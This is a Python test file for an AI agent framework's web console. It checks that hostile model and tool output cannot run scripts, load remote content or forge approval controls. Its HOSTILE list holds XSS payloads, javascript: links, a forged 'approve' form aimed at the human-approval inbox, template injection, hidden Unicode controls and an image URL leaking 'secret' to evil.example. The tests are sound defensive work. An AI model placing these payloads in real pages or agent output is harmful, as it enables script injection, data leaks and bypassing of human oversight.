"""What models and tools wrote is hostile: no script, no remote load, no forged control gets past the pages."""

from __future__ import annotations

import json
from html import unescape
from typing import Any
from urllib.parse import quote

import pytest

from perdure import Agent, ToolContext, tool
from perdure.console.texts import format_json, render_markdown
from perdure.testing import ScriptedProvider, call
from perdure.types.visible_text import show_controls
from tests.console.test_access import wait_for_waits
from tests.support.engine import Engine
from tests.support.pages import Html, console

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![cat](https://evil.example/?q=secret)",
    "[click](javascript:alert(1)) [data](data:text/html,x) [own](/console/logout) [rel](//evil.example)",
    '<form action="/console/inbox" method="post"><button name="decision" value="approve">OK</button></form>',
    "</textarea></details></form><button>Approve</button>",
    "{{ 777*777 }} {% include 'base.html' %}",
    "a\u202eb\u2066c\u200bd\x1b[31me\x00f\u3164g\ufeffh\U000e0041i",
    "<!-- --><svg onload=alert(1)><style>*{display:none}</style><iframe src=//evil.example>",
    "[https://bank.example](https://evil.example/login)",
    "<a href='https://evil.example' style='position:fixed'>x</a>\n\n&lt;script&gt;",
]
TEXT = "\n\n".join(HOSTILE)
ALLOWED_TAGS = {
    *("html", "head", "meta", "title", "link", "script", "body", "a", "header", "div", "svg", "path", "circle", "rect"),
    *("span", "nav", "main", "section", "article", "aside", "h1", "h2", "h3", "p", "ol", "ul", "li", "dl", "dt", "dd"),
    *("form", "input", "button", "textarea", "select", "option", "label", "details", "summary", "code", "pre", "time"),
    *(
        "strong",
        "em",
        "kbd",
        "bdi",
        "noscript",
        "figure",
        "figcaption",
        "img",
        "br",
        "hr",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    ),
    *("blockquote", "s", "datalist", "fieldset", "legend", "del", "ins"),
}


def check_page(page: Html, text: str) -> None:
    """Nothing of the hostile text acts, loads or hides."""
    for tag, given in page.tags:
        assert tag in ALLOWED_TAGS, tag
        assert not [name for name in given if name.startswith("on") or name in ("style", "srcdoc")], (tag, given)
        if tag == "script":
            assert given["src"].startswith("/console/assets/")
        if tag in ("img", "link"):
            assert (given.get("src") or given["href"]).startswith("/console/")
        if tag == "a" and not given.get("href", "/").startswith(("/console/", "#")):
            assert given["href"].startswith(("https://", "http://", "mailto:")), given
            assert set(given["rel"].split()) == {"noreferrer", "noopener", "nofollow"}
            assert given["target"] == "_blank"
        if tag == "form":
            assert given["action"].startswith("/console/") if "action" in given else True
    assert not set("\u202e\u2066\u200b\x1b\x00\u3164\ufeff\U000e0041") & set(unescape(text))
    assert "603729" not in text, "a template in the text is not evaluated"


@pytest.mark.parametrize("place", ["inbox", "call", "run", "live", "outcome"])
async def test_hostile_texts_in_every_place(engine: Engine, place: str) -> None:
    @tool(needs_approval=True)
    def pay(note: str, more: dict[str, str]) -> str:
        """Pay."""
        return TEXT

    @tool
    async def consult(ctx: ToolContext) -> str:
        """Ask."""
        return str(await ctx.ask(TEXT))

    @tool
    async def look(ctx: ToolContext) -> str:
        """Look."""
        ctx.progress(TEXT)
        raise ValueError(TEXT)

    def answer(request: Any) -> Any:
        replies = sum(message.role == "assistant" for message in request.messages)
        waits = [call("pay", note=TEXT, more={TEXT: TEXT}), call("consult")]
        return [[TEXT, call("look")], [TEXT, *waits], TEXT][min(replies, 2)]

    agent = Agent("agent", ScriptedProvider(answer), tools=[pay, consult, look], description=TEXT)
    async with engine.served(agent) as client, console(client) as opened:
        run = await client.start("agent", TEXT, by="<b>eve</b>", user='"><i>user', tenant="<u>tenant", mode="session")
        await wait_for_waits(client, 2)
        name = quote(run.id, safe="")
        browser = opened.browse()
        waits = (await client.list_waits()).waits
        pay_id = next(wait.call_id for wait in waits if wait.tool == "pay")
        match place:
            case "inbox":
                page = await browser.open("/inbox")
            case "call":
                page = await browser.open(f"/inbox/{name}/{pay_id}")
            case "run":
                page = await browser.open(f"/runs/{name}")
            case "live":
                frames = await browser.http.get(f"/console/runs/{name}/export/events", headers={"accept": "text/html"})
                assert frames.headers["content-type"].startswith("application/jsonl")
                for wait in waits:
                    await (run.deny(wait.call_id, by="x") if wait.tool == "pay" else run.answer(wait.call_id, "x"))
                await run.turn().result()
                await run.close()
                await run.result()
                live = await browser.http.get(f"/console/runs/{name}/live?after=1")
                data = [json.loads(line[6:]) for line in live.text.splitlines() if line.startswith("data: ")]
                html = "".join(block["html"] for frame in data for block in frame.get("blocks", ()))
                assert "look" in html
                check_page(Html(html), html)
                return
            case _:
                await run.deny(pay_id, by="<b>zoe</b>", comment=TEXT)
                page = await browser.open(f"/inbox/{name}/{pay_id}")
        assert browser.response.status_code == 200
        check_page(page, browser.response.text)
        assert "alert(1)" in page.text, "it is shown"
        assert "⟨U+202E⟩" in page.text


@pytest.mark.parametrize(
    "path",
    [
        "/inbox?agent=%3Cscript%3E&kind=approval",
        "/runs?agent=%22%3E%3Cscript%3E&user=%E2%80%AE",
        "/%3Cscript%3E",
        "/runs/%3Cscript%3E",
    ],
)
async def test_hostile_addresses(engine: Engine, path: str) -> None:
    async with engine.served(Agent("a", ScriptedProvider(["hi"]))) as client, console(client) as opened:
        browser = opened.browse()
        page = await browser.open(path)
        assert browser.response.status_code in (200, 404)
        check_page(page, browser.response.text)


def test_markdown_keeps_what_is_harmless() -> None:
    html = render_markdown(
        "# Title\n\n**bold** `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```"
    )
    for part in ("<h1>", "<strong>", "<code>", "<li>", "<table>", "x &lt; 1"):
        assert part in html


def test_a_link_names_its_host_unless_its_text_does() -> None:
    assert '<span class="host">evil.example</span>' in render_markdown("[bank.example](https://evil.example/)")
    assert "host" not in render_markdown("[evil.example](https://evil.example)")
    assert "<img" not in render_markdown("![x](https://evil.example/?q=1)")
    assert "image: x" in render_markdown("![x](https://evil.example/?q=1)")


@pytest.mark.parametrize(
    "text", ["[" * 5_000, "> " * 5_000, "*a " * 5_000, "`" * 5_000, "![" * 3_000, "- " * 3_000 + "x", "<" * 20_000]
)
def test_markdown_that_would_take_long_is_bounded(text: str) -> None:
    assert len(render_markdown(text)) < 3_000_000


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("a\r\nb\rc", "a\nb⟨U+000D⟩c"),
        ("\u202eabc", "⟨U+202E⟩abc"),
        ("👩\u200d💻 می\u200cخواهم", "👩\u200d💻 می\u200cخواهم"),
        ("pass\u200dword", "pass⟨U+200D⟩word"),
        ("\ud800", "⟨U+D800⟩"),
    ],
)
def test_characters_that_hide_others_are_shown(text: str, shown: str) -> None:
    assert show_controls(text) == shown


def test_json_shows_them_as_escapes() -> None:
    assert json.loads(format_json({"a": "\u202e\U000e0041"})) == {"a": "\u202e\U000e0041"}
    assert "\\u202e" in format_json({"a": "\u202e"})
